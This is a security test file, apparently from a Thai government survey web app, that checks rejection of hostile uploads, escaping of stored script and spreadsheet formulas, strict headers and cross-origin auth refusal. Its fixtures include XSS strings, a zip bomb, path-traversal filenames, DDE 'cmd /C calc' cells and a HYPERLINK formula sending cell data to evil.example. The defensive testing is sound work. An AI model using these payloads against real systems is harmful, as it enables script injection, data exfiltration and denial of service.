/**
 * Hostile input: upload attacks, stored script, spreadsheet formula injection, security headers
 * and cross-site requests against the cookie-authenticated auth routes.
 */
import { randomUUID } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dgrs2566 } from '../../seeds/frameworks/dgrs-2566/framework';
import { importFramework } from '../../server/src/modules/frameworks/frameworks.service';
import { type Personas, refreshCookieOf, setupPersonas } from '../support/fixtures';
import { multipart } from '../support/multipart';
import { createTestApp, type TestApp } from '../support/test-app';

let t: TestApp;
let p: Personas;
let responseId: number;
let clientDir: string;
const DAY = 86_400_000;
const PUBLIC_URL = 'https://survey.dga.or.th';

beforeAll(async () => {
  clientDir = fs.mkdtempSync(path.join(os.tmpdir(), 'dg-client-'));
  fs.writeFileSync(
    path.join(clientDir, 'index.html'),
    '<!doctype html><html><body><div id="root"></div></body></html>',
  );
  t = await createTestApp({ MAX_UPLOAD_MB: '1', CLIENT_DIST: clientDir, PUBLIC_URL });
  p = await setupPersonas(t.app, t.db);
  const imported = await importFramework(t.db, dgrs2566, { userId: null, email: null, ip: null });
  const cycle = await t.db
    .insertInto('cycles')
    .values({
      fiscal_year: 2023,
      name_th: 'การสำรวจ 2566',
      name_en: 'Survey 2023',
      framework_id: imported.row.id,
      status: 'open',
      opens_at: new Date(Date.now() - DAY),
      closes_at: new Date(Date.now() + 30 * DAY),
    })
    .returningAll()
    .executeTakeFirstOrThrow();
  const mine = await t.app.inject({
    method: 'GET',
    url: `/api/cycles/${cycle.id}/my-response`,
    headers: p.respondentA.headers,
  });
  responseId = mine.json().response.id;
});
afterAll(async () => {
  await t.close();
  fs.rmSync(clientDir, { recursive: true, force: true });
});

const upload = (fileName: string, content: Buffer, contentType: string) => {
  const m = multipart({ questionCode: 'POL_CIO' }, { name: fileName, content, type: contentType });
  return t.app.inject({
    method: 'POST',
    url: `/api/responses/${responseId}/evidence`,
    headers: { ...p.respondentA.headers, 'content-type': m.contentType },
    payload: m.payload,
  });
};

const pdf = (extra = '') => Buffer.from(`%PDF-1.4\n1 0 obj <<>> endobj\n${extra}\n%%EOF\n`);

/** A zip whose only entry claims 4 GiB uncompressed (no [Content_Types].xml): a bomb to a naive unzipper. */
function bombZip(): Buffer {
  const name = Buffer.from('word/document.xml');
  const data = Buffer.alloc(64, 0);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(0xffffffff, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(0xffffffff, 24);
  central.writeUInt16LE(name.length, 28);
  const cdOffset = local.length + name.length + data.length;
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(1, 8);
  eocd.writeUInt16LE(1, 10);
  eocd.writeUInt32LE(central.length + name.length, 12);
  eocd.writeUInt32LE(cdOffset, 16);
  return Buffer.concat([local, name, data, central, name, eocd]);
}

const evidenceRows = () => t.db.selectFrom('evidence').selectAll().where('response_id', '=', responseId).execute();

describe('upload attacks', () => {
  it('refuses markup and scripts whatever the name or declared type says', async () => {
    const before = (await evidenceRows()).length;
    const cases: [string, Buffer, string][] = [
      ['report.pdf', Buffer.from('<html><script>alert(1)</script></html>'), 'application/pdf'],
      [
        'logo.svg',
        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'),
        'image/svg+xml',
      ],
      ['logo.png', Buffer.from('<?xml version="1.0"?><svg onload="alert(1)"/>'), 'image/png'],
      ['notes.txt', Buffer.from('hello <script>alert(1)</script>'), 'text/plain'],
      ['page.html', Buffer.from('<!doctype html><p>hi</p>'), 'text/html'],
      ['plan.docx', bombZip(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
      ['run.exe', Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00]), 'application/pdf'],
    ];
    for (const [name, content, type] of cases) {
      const res = await upload(name, content, type);
      expect(res.statusCode, `${name}: ${res.body}`).toBe(415);
      expect(res.json().error.code).toBe('UNSUPPORTED_MEDIA_TYPE');
    }
    expect(await evidenceRows()).toHaveLength(before);
  });

  it('refuses an oversize file with 413 and keeps nothing', async () => {
    const before = (await evidenceRows()).length;
    const res = await upload(
      'big.pdf',
      Buffer.concat([pdf(), Buffer.alloc(1024 * 1024 + 10, 0x20)]),
      'application/pdf',
    );
    expect(res.statusCode, res.body).toBe(413);
    expect(await evidenceRows()).toHaveLength(before);
    const files = fs.existsSync(t.config.storageDir)
      ? fs.readdirSync(t.config.storageDir, { recursive: true, withFileTypes: true }).filter((d) => d.isFile())
      : [];
    expect(files.filter((f) => f.name.startsWith('.tmp'))).toEqual([]);
  });

  it('neutralizes path-traversal file names and serves evidence as a safe attachment', async () => {
    const names = ['../../etc/passwd.pdf', '..\\..\\windows\\win.ini.pdf', '/etc/shadow.pdf', '..', 'a\u0000b".pdf'];
    for (const [i, name] of names.entries()) {
      const res = await upload(name, pdf(`% ${i}`), 'application/pdf');
      expect(res.statusCode, `${name}: ${res.body}`).toBe(201);
      const ev = res.json();
      expect(ev.fileName).not.toMatch(/[\\/"]|^\./);
      expect(ev.fileName.includes(String.fromCharCode(0))).toBe(false);
      expect(ev.mime).toBe('application/pdf');
      const row = await t.db.selectFrom('evidence').selectAll().where('id', '=', ev.id).executeTakeFirstOrThrow();
      // Stored under its content hash inside the storage directory, never under the given name.
      expect(row.storage_key).toBe(row.sha256);
      const dl = await t.app.inject({
        method: 'GET',
        url: `/api/evidence/${ev.id}/download`,
        headers: p.analyst.headers,
      });
      expect(dl.statusCode).toBe(200);
      expect(dl.headers['content-type']).toMatch(/^application\/pdf/);
      expect(String(dl.headers['content-disposition'])).toMatch(/^attachment; filename="[^"/\\]*"/);
      expect(dl.headers['x-content-type-options']).toBe('nosniff');
      expect(String(dl.headers['content-security-policy'])).toMatch(/sandbox/);
    }
    expect(fs.existsSync(path.join(t.config.storageDir, '..', '..', 'etc'))).toBe(false);
    const stored = fs.readdirSync(t.config.storageDir, { recursive: true }).map(String);
    expect(stored.every((f) => /^[0-9a-f]{2}(\/[0-9a-f]{64})?$/.test(f))).toBe(true);
  });
});

describe('numbers beyond what a double holds exactly', () => {
  it('refuses 2^53 + 2 (and other imprecise numbers) with 400 and a message, storing nothing', async () => {
    const put = (code: string, raw: string) =>
      t.app.inject({
        method: 'PUT',
        url: `/api/responses/${responseId}/answers/${code}`,
        headers: { ...p.respondentA.headers, 'content-type': 'application/json' },
        // Raw text: the number as an attacker writes it, before any JSON encoder rounds it.
        payload: `{"value":${raw},"notApplicable":null,"baseRevision":0,"idempotencyKey":"${randomUUID()}"}`,
      });
    for (const [code, raw] of [
      ['DG_DATASET_COUNT', '9007199254740994'],
      ['DG_DATASET_COUNT', '9007199254740993'],
      ['BO_SAVINGS', '9007199254740994'],
      ['BO_SAVINGS', '1e300'],
      ['BO_SAVINGS', '0.30000000000000004'],
    ] as const) {
      const res = await put(code, raw);
      expect(res.statusCode, `${code} ${raw}: ${res.body}`).toBe(400);
      expect(res.json().error).toMatchObject({ code: 'VALIDATION_FAILED' });
      expect(res.json().error.details[0]).toMatchObject({ path: 'body.value' });
      expect(res.json().error.message).toMatch(/store exactly/);
    }
    const stored = await t.db
      .selectFrom('answers')
      .select('question_code')
      .where('response_id', '=', responseId)
      .where('question_code', 'in', ['DG_DATASET_COUNT', 'BO_SAVINGS'])
      .execute();
    expect(stored).toEqual([]);
    const safe = await put('DG_DATASET_COUNT', '9007199254740991');
    expect(safe.statusCode, safe.body).toBe(200);
  });
});

describe('stored script and spreadsheet formulas', () => {
  const save = (code: string, value: unknown) =>
    t.app.inject({
      method: 'PUT',
      url: `/api/responses/${responseId}/answers/${code}`,
      headers: p.respondentA.headers,
      payload: { value, notApplicable: null, baseRevision: 0, idempotencyKey: randomUUID() },
    });

  it('stores <script> answers verbatim and returns them only as JSON text', async () => {
    const evil = '<script>alert("x")</script><img src=x onerror=alert(1)>';
    expect((await save('POL_OBSTACLES', evil)).statusCode).toBe(200);
    const res = await t.app.inject({ method: 'GET', url: `/api/responses/${responseId}`, headers: p.analyst.headers });
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    const a = res.json().answers.find((x: { questionCode: string }) => x.questionCode === 'POL_OBSTACLES');
    expect(a.value).toBe(evil);
  });

  it('escapes cells starting with = + - @ in the XLSX export', async () => {
    const payloads: Record<string, string> = {
      TECH_FLAGSHIP: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      BO_SHOWCASE: '+cmd|" /C calc"!A0',
      TECH_RESULTS: '-2+3+cmd|" /C calc"!A0',
      DG_CATALOG_URL: '@SUM(1+1)*cmd|" /C calc"!A0',
    };
    for (const [code, v] of Object.entries(payloads)) {
      const res = await save(code, v);
      expect(res.statusCode, `${code}: ${res.body}`).toBe(200);
    }
    const res = await t.app.inject({
      method: 'GET',
      url: `/api/responses/${responseId}/export.xlsx`,
      headers: p.respondentA.headers,
    });
    expect(res.statusCode).toBe(200);
    expect(String(res.headers['content-disposition'])).toMatch(/^attachment/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const found = new Set<string>();
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') {
            expect(cell.value, `${ws.name}!${cell.address}`).not.toMatch(/^[=+\-@\t\r]/);
            for (const v of Object.values(payloads)) if (cell.value === `'${v}`) found.add(v);
          }
        }),
      ),
    );
    expect([...found].sort()).toEqual(Object.values(payloads).sort());
  });
});

describe('security headers', () => {
  const check = (h: Record<string, unknown>) => {
    const csp = String(h['content-security-policy']);
    expect(csp).toMatch(/default-src 'self'/);
    expect(csp).toMatch(/script-src 'self'(;|$)/);
    expect(csp).not.toMatch(/script-src[^;]*unsafe-(inline|eval)/);
    expect(csp).toMatch(/object-src 'none'/);
    expect(csp).toMatch(/frame-ancestors 'none'/);
    expect(h['x-content-type-options']).toBe('nosniff');
    expect(h['x-frame-options']).toBe('SAMEORIGIN');
    expect(h['referrer-policy']).toBe('no-referrer');
    expect(h['strict-transport-security']).toBeDefined();
  };

  it('sends a strict CSP and the usual headers on the app HTML and on the API', async () => {
    const html = await t.app.inject({ method: 'GET', url: '/questionnaire/deep/link' });
    expect(html.statusCode).toBe(200);
    expect(html.headers['content-type']).toMatch(/^text\/html/);
    check(html.headers);
    const api = await t.app.inject({ method: 'GET', url: '/api/health' });
    check(api.headers);
    const err = await t.app.inject({ method: 'GET', url: '/api/nope' });
    expect(err.statusCode).toBe(404);
    check(err.headers);
  });
});

describe('cross-site requests to the cookie-authenticated routes', () => {
  const login = async () => {
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/auth/login',
      payload: { email: 'resp.b@test.go.th', password: 'Correct-horse-42' },
    });
    expect(res.statusCode).toBe(200);
    return res;
  };

  it('sets the refresh cookie httpOnly, SameSite=Strict and scoped to /api/auth', async () => {
    const res = await login();
    const c = res.cookies.find((x) => x.name === 'dg_refresh');
    expect(c).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/api/auth' });
  });

  it('refuses refresh and logout from another origin (403) and leaves the session alone', async () => {
    const cookie = refreshCookieOf(await login());
    for (const url of ['/api/auth/refresh', '/api/auth/logout']) {
      for (const headers of [
        { origin: 'https://evil.example' },
        { origin: 'null' },
        { origin: 'https://survey.dga.or.th.evil.example' },
        { 'sec-fetch-site': 'cross-site' },
      ]) {
        const res = await t.app.inject({ method: 'POST', url, headers, cookies: { dg_refresh: cookie } });
        expect(res.statusCode, `${url} ${JSON.stringify(headers)}`).toBe(403);
        expect(res.json().error.code).toBe('FORBIDDEN');
      }
    }
    // The session survived: a same-origin refresh still works, and one without Origin (non-browser) too.
    const ok = await t.app.inject({
      method: 'POST',
      url: '/api/auth/refresh',
      headers: { origin: PUBLIC_URL, 'sec-fetch-site': 'same-origin' },
      cookies: { dg_refresh: cookie },
      payload: {},
    });
    expect(ok.statusCode, ok.body).toBe(200);
    const out = await t.app.inject({
      method: 'POST',
      url: '/api/auth/logout',
      cookies: { dg_refresh: refreshCookieOf(ok) },
    });
    expect(out.statusCode).toBe(204);
  });
});
